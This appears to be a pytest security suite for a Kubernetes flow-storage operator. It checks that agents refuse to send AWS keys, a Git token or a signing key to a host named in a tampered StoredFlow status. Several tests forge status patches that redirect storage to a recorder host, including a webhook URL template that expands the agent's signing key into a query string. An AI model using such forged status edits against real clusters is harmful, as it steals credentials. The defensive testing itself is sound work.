"""An agent never sends its credentials where an edited status points (issue 20, item 2).

The real kube-apiserver; the attacker is whoever may write ``storedflows/status``: they keep the
signed digest and change only where the flow lives. Their host is a recorder
(tests/helpers/recorder.py). Each test first shows what the recorder would receive — the agent's
AWS key id, its GIT_TOKEN, its signing key rendered into a webhook URL — when an agent is told to
trust that host (so the recorder demonstrably works); then that the agent, trusting only the
FlowStorage, refuses before any request: the recorder receives nothing, through every entry
point (``load_flow``, ``flowstore get|run|locate``, the Prefect pull step and RunnerStorage).
Last, an agent's RBAC: with ``get storedflows`` only, it is told to grant ``get flowstorages``
or to list its storages; with either, it loads.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from flowstore import client
from flowstore import prefect as fp
from flowstore.agent.errors import UntrustedLocation
from tests.helpers.kube import apply, kubectl, wait_ready
from tests.helpers.manifests import flow_storage, inline_flow, manifests, s3_storage
from tests.helpers.operator import OperatorProcess
from tests.helpers.recorder import Recorder

TOKEN = "ghp_the-agents-own-git-token-0123456789"
SIGNING_KEY = "the-agents-signing-key-0123456789"
SCRIPT = "from flowstore.flow import Flow\nflow = Flow('etl daily', lambda: 42)\n"


def write_status(namespace: str, name: str, status: dict[str, Any]) -> None:
    """What a status writer does (status subresource only: the spec stays the tenant's)."""
    kubectl("patch", "storedflow", name, "-n", namespace, "--subresource=status", "--type=merge",
            "-p", json.dumps({"status": status}))


def cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "flowstore.cli", *args], capture_output=True, text=True,
                          env={**os.environ, **(env or {})}, timeout=120)


def refused_everywhere(namespace: str, name: str, recorder: Recorder, tmp_path: Path, *,
                       prefect: bool = True) -> None:
    """Every agent entry point refuses, naming both places, and the recorder got nothing."""
    with pytest.raises(UntrustedLocation) as refused:
        client.load_flow(name, namespace)
    assert str(recorder.port) in str(refused.value) and f"FlowStorage {namespace}/store" in str(refused.value)
    for command in (["get", name, "-n", namespace], ["run", name, "-n", namespace],
                    ["locate", name, "-n", namespace], ["locate", name, "-n", namespace, "-o", "prefect"]):
        done = cli(*command)
        assert done.returncode == 1 and "nothing was requested" in done.stderr, (command, done.stderr)
        assert done.stderr.count("\n") == 1, done.stderr
    if prefect:
        with pytest.raises(UntrustedLocation):
            fp.prepare(name, namespace, tmp_path / "pulled")
        storage = fp.FlowstoreStorage(name, namespace)
        storage.set_base_path(tmp_path / "runner")
        with pytest.raises(UntrustedLocation):
            storage._pull()
        assert not (tmp_path / "pulled").exists() and not storage.destination.exists()
    assert recorder.requests == [], f"the agent sent {len(recorder.requests)} request(s) to the attacker's host"


@pytest.fixture
def trusting_the_recorder(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Any]:
    """An agent told to trust a host (FLOWSTORE_TRUSTED_STORAGES), with an empty cache (it must
    download): what it then sends there."""
    def trust(*blocks: dict[str, Any]) -> None:
        monkeypatch.setenv("FLOWSTORE_TRUSTED_STORAGES", json.dumps(list(blocks)))
        monkeypatch.setenv("FLOWSTORE_CACHE_DIR", str(tmp_path / "fresh-cache"))

    yield trust
    monkeypatch.delenv("FLOWSTORE_TRUSTED_STORAGES", raising=False)


def test_cloud_keys_never_go_to_an_endpoint_an_edited_status_names(
        operator: OperatorProcess, namespace: str, s3_bucket: str, s3_endpoint: str, tmp_path: Path,
        trusting_the_recorder: Any) -> None:
    apply(s3_storage(namespace, s3_bucket, s3_endpoint))
    apply(inline_flow(namespace, "etl", "etl daily", storedAsScript=True))
    status = wait_ready(namespace, "etl")["status"]
    assert client.load_flow("etl", namespace).run() == 42  # the operator's own status: trusted, loads
    key_id = os.environ["AWS_ACCESS_KEY_ID"]
    with Recorder() as recorder:
        edited = {**status["storage"], "endpointURL": recorder.url}
        write_status(namespace, "etl", {"storage": edited})
        # with its own trust pointed at the recorder, the agent sends it its signed AWS key id
        trusting_the_recorder({"s3": {"bucket": s3_bucket, "endpointURL": recorder.url, "region": "us-east-1"}})
        with pytest.raises(client.AGENT_ERRORS):
            client.load_flow("etl", namespace)
        assert recorder.requests and any(r.carries(key_id) for r in recorder.requests), "the recorder works"
        recorder.requests.clear()
        os.environ.pop("FLOWSTORE_TRUSTED_STORAGES")
        refused_everywhere(namespace, "etl", recorder, tmp_path)


def test_the_git_token_never_goes_to_a_host_an_edited_status_names(
        crds: None, namespace: str, tmp_path: Path, trusting_the_recorder: Any,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GIT_TOKEN", TOKEN)
    apply(manifests(flow_storage(namespace, "store", "git", {"url": "https://git.example.com/team/flows.git"}),
                    {"apiVersion": "flowstore.dev/v1alpha1", "kind": "StoredFlow",
                     "metadata": {"name": "etl", "namespace": namespace},
                     "spec": {"storageRef": {"name": "store"}, "flowName": "etl daily",
                              "source": {"path": "flows/etl.py"}, "storedAsScript": True}}))
    with Recorder() as recorder:
        url = f"{recorder.url}/team/flows.git"
        write_status(namespace, "etl", {
            "location": "flows/etl.py", "flowName": "etl daily",
            "storage": {"type": "Git", "url": url, "ref": "3f2c" * 10, "requestedRef": "main",
                        "path": "flows/etl.py", "storedAsScript": True, "flows": {"etl daily": "flows/etl.py"}},
            "artifact": {"url": f"{url}#flows/etl.py", "digest": "sha256:" + "0" * 64, "size": len(SCRIPT),
                         "format": "script", "fileName": "etl.py"},
            "git": {"repo": url, "path": "flows/etl.py", "ref": "main", "commit": "3f2c" * 10}})
        trusting_the_recorder({"git": {"url": url}})
        with pytest.raises(client.AGENT_ERRORS):
            client.load_flow("etl", namespace)
        assert any(r.carries(TOKEN) for r in recorder.requests), "the recorder works: it would get the token"
        recorder.requests.clear()
        os.environ.pop("FLOWSTORE_TRUSTED_STORAGES")
        refused_everywhere(namespace, "etl", recorder, tmp_path)


def test_the_agents_environment_never_goes_into_a_url_an_edited_status_names(
        crds: None, namespace: str, tmp_path: Path, trusting_the_recorder: Any,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FLOWSTORE_SIGNING_KEY", SIGNING_KEY)
    hook = {"buildRequest": {"method": "POST", "url": "https://flows.example.com/flows"},
            "getFlowRequest": {"method": "GET", "url": "https://flows.example.com/flows/${response.json.id}"}}
    apply(manifests(flow_storage(namespace, "store", "webhook", hook),
                    {"apiVersion": "flowstore.dev/v1alpha1", "kind": "StoredFlow",
                     "metadata": {"name": "etl", "namespace": namespace},
                     "spec": {"storageRef": {"name": "store"}, "flowName": "etl daily",
                              "source": {"inline": SCRIPT}, "storedAsScript": True}}))
    from tests.fakes.agent_api import sign_status

    digest = "sha256:" + "0" * 64
    uid = json.loads(kubectl("get", "storedflow", "etl", "-n", namespace, "-o", "json").stdout)["metadata"]["uid"]
    with Recorder() as recorder:
        stolen = {**hook, "getFlowRequest": {"method": "GET", "url": f"{recorder.url}/k?v=${{FLOWSTORE_SIGNING_KEY}}"}}
        # signed as the operator would sign it: an HMAC key signs as well as it verifies, so whoever
        # holds the agent's key can sign any statement (docs/security.md); the trust check still holds
        write_status(namespace, "etl", sign_status({
            "location": "etl", "flowName": "etl daily",
            "storage": {"type": "Webhook", **stolen, "storedAsScript": True, "flows": {"etl daily": "etl"}},
            "artifact": {"url": "https://flows.example.com/flows/1", "digest": digest, "size": 10,
                         "format": "script", "revision": 1, "designation": 1,
                         "lastUpdateTime": "2026-11-26T10:00:00Z"}}, SIGNING_KEY, namespace=namespace, uid=uid))
        # trusting the webhook the status names (the FlowStorage does not): the key is in its URL
        trusting_the_recorder({"webhook": stolen})
        with pytest.raises(client.AGENT_ERRORS):
            client.load_flow("etl", namespace)
        if recorder.requests:  # until templates stop expanding the agent's environment (issue 20)
            assert any(r.carries(SIGNING_KEY) for r in recorder.requests)
        recorder.requests.clear()
        os.environ.pop("FLOWSTORE_TRUSTED_STORAGES")
        refused_everywhere(namespace, "etl", recorder, tmp_path)


# --------------------------------------------------------------------------- an agent's RBAC
def agent_kubeconfig(namespace: str, tmp_path: Path, *resources: str) -> Path:
    """A kubeconfig for a ServiceAccount that may only ``get`` `resources` (flowstore.dev)."""
    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
            "metadata": {"name": "flowstore-agent", "namespace": namespace},
            "rules": [{"apiGroups": ["flowstore.dev"], "resources": list(resources), "verbs": ["get"]}]}
    binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
               "metadata": {"name": "flowstore-agent", "namespace": namespace},
               "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "flowstore-agent"},
               "subjects": [{"kind": "ServiceAccount", "name": "agent", "namespace": namespace}]}
    account = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "agent", "namespace": namespace}}
    apply(manifests(account, role, binding))
    token = kubectl("create", "token", "agent", "-n", namespace).stdout.strip()
    admin = json.loads(kubectl("config", "view", "--raw", "-o", "json").stdout)
    cluster = admin["clusters"][0]
    config = {"apiVersion": "v1", "kind": "Config", "clusters": [cluster],
              "users": [{"name": "agent", "user": {"token": token}}],
              "contexts": [{"name": "agent", "context": {"cluster": cluster["name"], "user": "agent",
                                                         "namespace": namespace}}],
              "current-context": "agent"}
    path = tmp_path / f"agent-{'-'.join(resources)}.kubeconfig"
    path.write_text(json.dumps(config))
    return path


def test_an_agent_needs_get_on_flowstorages_or_its_own_list(
        operator: OperatorProcess, namespace: str, s3_bucket: str, s3_endpoint: str, tmp_path: Path) -> None:
    apply(s3_storage(namespace, s3_bucket, s3_endpoint))
    apply(inline_flow(namespace, "etl", "etl daily"))
    wait_ready(namespace, "etl")
    only_storedflows = agent_kubeconfig(namespace, tmp_path, "storedflows")
    done = cli("run", "etl", "-n", namespace, env={"KUBECONFIG": str(only_storedflows)})
    assert done.returncode == 2, done.stderr  # the agent's environment is not ready (flowstore.cli_errors)
    assert "get on flowstorages in namespace" in done.stderr and "FLOWSTORE_TRUSTED_STORAGES" in done.stderr
    listed = json.dumps([{"s3": {"bucket": s3_bucket, "endpointURL": s3_endpoint, "region": "us-east-1"}}])
    done = cli("run", "etl", "-n", namespace, env={"KUBECONFIG": str(only_storedflows),
                                                   "FLOWSTORE_TRUSTED_STORAGES": listed})
    assert done.returncode == 0 and json.loads(done.stdout)["result"] == 42, done.stderr
    both = agent_kubeconfig(namespace, tmp_path, "storedflows", "flowstorages")
    done = cli("run", "etl", "-n", namespace, env={"KUBECONFIG": str(both)})
    assert done.returncode == 0 and json.loads(done.stdout)["result"] == 42, done.stderr
    # and the Role the docs give agents is that one (docs/security-agents.md)
    docs = (Path(__file__).resolve().parents[2] / "docs" / "security-agents.md").read_text()
    assert 'resources: ["storedflows", "flowstorages"]' in docs and 'verbs: ["get"]' in docs
